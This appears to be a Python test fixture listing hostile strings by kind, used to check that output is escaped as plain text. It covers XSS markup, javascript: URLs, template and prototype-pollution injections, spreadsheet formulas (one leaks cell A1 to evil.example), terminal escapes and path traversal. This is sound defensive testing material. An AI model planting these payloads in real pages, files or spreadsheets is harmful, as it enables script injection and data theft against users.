"""Strings that were written to do harm, by kind. Wherever they land, they must be nothing but text."""

MARKUP = (
    '<img src=x onerror="window.hacked=1">',
    "</script><script>window.hacked=1</script>",
    '"><svg onload="window.hacked=1">',
    "' onmouseover='window.hacked=1' x='",
    "<!--<script>",
    "--><b>bold</b>",
    "]]><b>bold</b>",
    "</title></style></textarea></noscript><script>window.hacked=1</script>",
    "<a href=javascript:window.hacked=1>press</a>",
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
)
CODE = (
    "javascript:window.hacked=1",
    "\x01javascript:window.hacked=1",
    "java\tscript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "{{7*7}} {% raw %} {{ self.__init__.__globals__ }} ${7*7}",
    "'); window.hacked=1; ('",
    "`${window.hacked=1}`",
    "\\u003cscript\\u003e \\x3cscript\\x3e \\",
    "__proto__",
    "constructor",
    '{"__proto__": {"hacked": 1}}',
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"press")',
    "@SUM(1)",
    "+1",
    "-2+3|cmd",
    "\t=1",
    "\r=1",
    "\n=1",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;another title\x07",
    "\x1b]8;;http://evil.example\x1b\\press\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "back\x08\x08\x08\x08gone",
    "one line\rANOTHER",
    "[bold red]markup of rich[/] :skull:",
)
UNICODE = (
    "left \u202eright to left\u202c left",
    "\u2066isolate\u2069",
    "line\u2028paragraph\u2029end",
    "nul\x00 byte",
    "\ufeffmark \ufffe no character \uffff",
    "z" + "\u0301\u0302\u0303" * 20,
    "👩‍👩‍👧 \U000e0041 tag",
    "%s %n {0} {} %(name)s",
    "../../etc/passwd",
    "W" * 2000,
)
HOSTILE = (*MARKUP, *CODE, *FORMULAS, *TERMINAL, *UNICODE)
